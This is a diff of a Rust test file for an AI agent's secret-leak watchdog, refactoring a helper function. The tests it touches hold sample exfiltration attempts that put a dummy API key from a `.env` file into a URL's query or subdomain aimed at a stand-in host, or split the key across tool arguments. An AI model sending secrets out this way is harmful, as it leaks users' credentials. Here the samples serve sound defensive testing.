@@ -2,8 +2,6 @@
 
 use std::sync::Arc;
 
-use agent::Host;
-use agent::rulebook::explain::ExplainOptions;
 use protocol::{CallState, CallView, Decision, Gate, Verdict};
 use provider::{KeyStore, MemoryKeyStore, Secret};
 use serde_json::json;
@@ -13,8 +11,9 @@ const ENV: &str = "PORT=3000\nAPI_KEY=qX7pL2mZ9vRt4KwS\n";
 
 /// Plays one call where nobody is there, beside a `.env`, with everything allowed. Returns its state and the sentences of the
 /// watchdogs.
-async fn play(tool: &str, arguments: serde_json::Value, host: Host) -> (CallState, Vec<String>) {
-    let mut desk = Fixture::with_host([call_tool(tool, arguments), say_text("Done.")], host).await;
+async fn play(tool: &str, arguments: serde_json::Value) -> (CallState, Vec<String>) {
+    let turns = [call_tool(tool, arguments), say_text("Done.")];
+    let mut desk = Fixture::with_host(turns, HEADLESS).await;
     desk.write_file("app/.env", ENV);
     desk.write_rules(rule_text(tool, "*", "allow") + &rule_text("net.fetch", "*", "allow"));
     desk.play().await;
@@ -40,7 +39,7 @@ async fn a_secret_does_not_leave_in_an_address_in_any_form() {
             format!("https://files.example/?q={secret}"),
             format!("https://{secret}.files.example/"),
         ] {
-            let (state, alarms) = play("web_fetch", json!({ "url": url }), HEADLESS).await;
+            let (state, alarms) = play("web_fetch", json!({ "url": url })).await;
             assert_eq!(state, CallState::Denied, "{url}");
             let [alarm] = &alarms[..] else {
                 panic!("{url}: {alarms:?}");
@@ -55,7 +54,6 @@ async fn a_secret_does_not_leave_in_an_address_in_any_form() {
     let (_, alarms) = play(
         "web_fetch",
         json!({ "url": "https://files.example/?port=3000" }),
-        HEADLESS,
     )
     .await;
     assert_eq!(alarms, Vec::<String>::new());
@@ -67,13 +65,7 @@ async fn a_secret_reaches_no_server_split_over_arguments() {
     desk.write_file("app/.env", ENV);
     desk.add_file_server(env!("CARGO_BIN_EXE_mcp_server")).await;
     desk.write_rules(rule_text("one__write_file", "**", "allow"));
-    let explainer = desk
-        .engine
-        .open_explainer(ExplainOptions {
-            workspace: desk.workspace_root(),
-            ..ExplainOptions::default()
-        })
-        .unwrap();
+    let explainer = desk.open_explainer();
     for (content, verdict) in [("4KwS", Verdict::Ask), ("other", Verdict::Allow)] {
         let arguments = json!({ "path": "qX7pL2mZ9vRt", "content": content });
         let explained = explainer
@@ -95,7 +87,7 @@ async fn a_secret_reaches_no_server_split_over_arguments() {
 
 #[tokio::test]
 async fn a_secret_stays_where_it_is_without_a_word() {
-    let (state, alarms) = play("write", json!({ "path": "b", "content": ENV }), HEADLESS).await;
+    let (state, alarms) = play("write", json!({ "path": "b", "content": ENV })).await;
     assert_eq!((state, alarms), (CallState::Done, Vec::new()));
 }
 
